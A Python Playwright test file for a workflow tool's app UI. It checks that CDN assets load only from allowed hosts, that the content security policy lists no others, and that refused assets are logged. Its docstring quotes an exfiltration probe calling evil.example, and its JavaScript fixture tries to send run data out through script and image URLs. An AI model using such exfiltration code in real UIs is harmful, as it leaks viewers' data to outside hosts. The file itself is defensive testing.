"""An app UI's `cdn` scripts and styles in a real browser: only hosts of DIZEST_UI_CDN_HOSTS
load, and the frame's policy names no other. One https server on this machine (a certificate
made for the test, which the browser context is told to accept) answers as two hosts: the
server allows `localhost:<port>`, not `127.0.0.1:<port>`, and the server counts what each was
asked. A probe had a shared workflow's UI send the viewer's results to its author's host this
way (`<script src="https://evil.example/x.js?data=...">`): any https host the app listed was
in its policy, and CSP matches no query."""

from __future__ import annotations

import collections
import http.server
import ssl
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.conftest import package
from tests.console.conftest import USER_PASSWORD, bearer, log_in
from tests.serve_process import PASSWORD, call, serving

LIVE_MS = 60_000
ASSETS = {
    "/lib.js": ("text/javascript", 'document.documentElement.dataset.lib = "loaded";'),
    "/evil.js": ("text/javascript", 'document.documentElement.dataset.evil = "loaded";'),
    "/style.css": ("text/css", "#title { color: rgb(0, 128, 0); }"),
    "/pixel.gif": ("image/gif", "GIF89a"),
}
# what the UI's own script tries on a host not allowed: a script and an image carrying data
JS = """
function tried(id, element) {
  element.onload = function () { document.getElementById(id).textContent = "loaded"; };
  element.onerror = function () { document.getElementById(id).textContent = "blocked"; };
  return element;
}
var data = encodeURIComponent(JSON.stringify({run: dizest.run}));
var s = tried("script", document.createElement("script"));
s.src = "BASE/evil.js?data=" + data;
document.head.appendChild(s);
tried("image", new Image()).src = "BASE/pixel.gif?data=" + data;
"""
HTML = '<h1 id="title">T</h1><p id="script">?</p><p id="image">?</p>'


class Assets:
    """An https server on 127.0.0.1 answering ASSETS, counting requests by Host header."""

    def __init__(self, tmp: Path) -> None:
        cert, key = tmp / "cert.pem", tmp / "key.pem"
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
             "-nodes", "-days", "1", "-subj", "/CN=localhost", "-keyout", str(key), "-out",
             str(cert), "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1"],
            check=True, capture_output=True,
        )  # fmt: skip
        self.asked: collections.Counter[str] = collections.Counter()
        counter = self.asked

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                counter[self.headers.get("Host", "")] += 1
                kind, body = ASSETS.get(self.path.split("?")[0], ("text/plain", "no"))
                data = body.encode()
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture(scope="module")
def assets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assets]:
    served = Assets(tmp_path_factory.mktemp("assets"))
    try:
        yield served
    finally:
        served.close()


def directives(policy: str) -> dict[str, list[str]]:
    parts = [d.split() for d in policy.split(";") if d.strip()]
    return {d[0]: d[1:] for d in parts}


def test_a_ui_loads_from_allowed_hosts_only_and_says_what_it_left_out(
    browser: Any, assets: Assets, tmp_path: Path
) -> None:
    allowed, refused = f"https://localhost:{assets.port}", f"https://127.0.0.1:{assets.port}"
    pkg = package({"a": {"code": "v = 1", "outputs": ["v"]}}, {"f": {"app": "a"}})
    pkg["apps"]["a"].update(
        html=HTML,
        js=JS.replace("BASE", refused),
        cdn={"js": [f"{allowed}/lib.js", f"{refused}/evil.js"], "css": [f"{allowed}/style.css"]},
    )
    with serving(tmp_path, ui_cdn_hosts=f"localhost:{assets.port}") as served:
        admin = bearer(served.base, "admin", PASSWORD, ["read", "run", "admin"])
        body = {"username": "uma", "password": USER_PASSWORD, "role": "user"}
        assert call(served.base, "POST", "/api/v1/users", body, admin)[0] == 201
        uma = bearer(served.base, "uma", USER_PASSWORD, ["read", "run"])
        status, run, _ = call(served.base, "POST", "/api/v1/runs", {"package": pkg}, uma)
        assert status == 201, run
        page = log_in(browser, served.base, "uma", ignore_https_errors=True)  # the test's cert
        try:
            page.goto(f"/runs/{run['run_id']}")
            expect(page.locator("#run-status")).to_have_text("ready", timeout=LIVE_MS)
            with page.expect_response(lambda r: r.url.split("?")[0].endswith("/flows/f/ui")) as ui:
                page.locator('g.node[data-id="f"]').click()
            frame = page.frame_locator("iframe.app-ui")
            expect(frame.locator("html")).to_have_attribute("data-lib", "loaded")  # allowed
            expect(frame.locator("#title")).to_have_css("color", "rgb(0, 128, 0)")
            expect(frame.locator("#script")).to_have_text("blocked")  # what the UI tried itself
            expect(frame.locator("#image")).to_have_text("blocked")
            note = frame.locator("#dizest-cdn-note")
            expect(note).to_contain_text(f"{refused}/evil.js")
            expect(note).to_contain_text("not among the hosts this server allows")
            expect(frame.locator("html")).not_to_have_attribute("data-evil", "loaded")
            policy = directives(ui.value.header_value("content-security-policy") or "")
        finally:
            page.context.close()
        assert assets.asked[f"127.0.0.1:{assets.port}"] == 0, assets.asked  # never asked at all
        assert assets.asked[f"localhost:{assets.port}"] >= 2, assets.asked
        assert policy["script-src"] == ["'unsafe-inline'", allowed]
        assert policy["style-src"] == ["'unsafe-inline'", allowed]
        assert policy["img-src"] == ["data:", "blob:", allowed]
        assert policy["connect-src"] == policy["form-action"] == ["'none'"]
        sources = [s for values in policy.values() for s in values]
        assert not [s for s in sources if s in ("https:", "*") or "127.0.0.1" in s]
        logged = (tmp_path / "serve.log").read_text()
        assert logged.count(f"{refused}/evil.js left out") == 1, logged[-2000:]
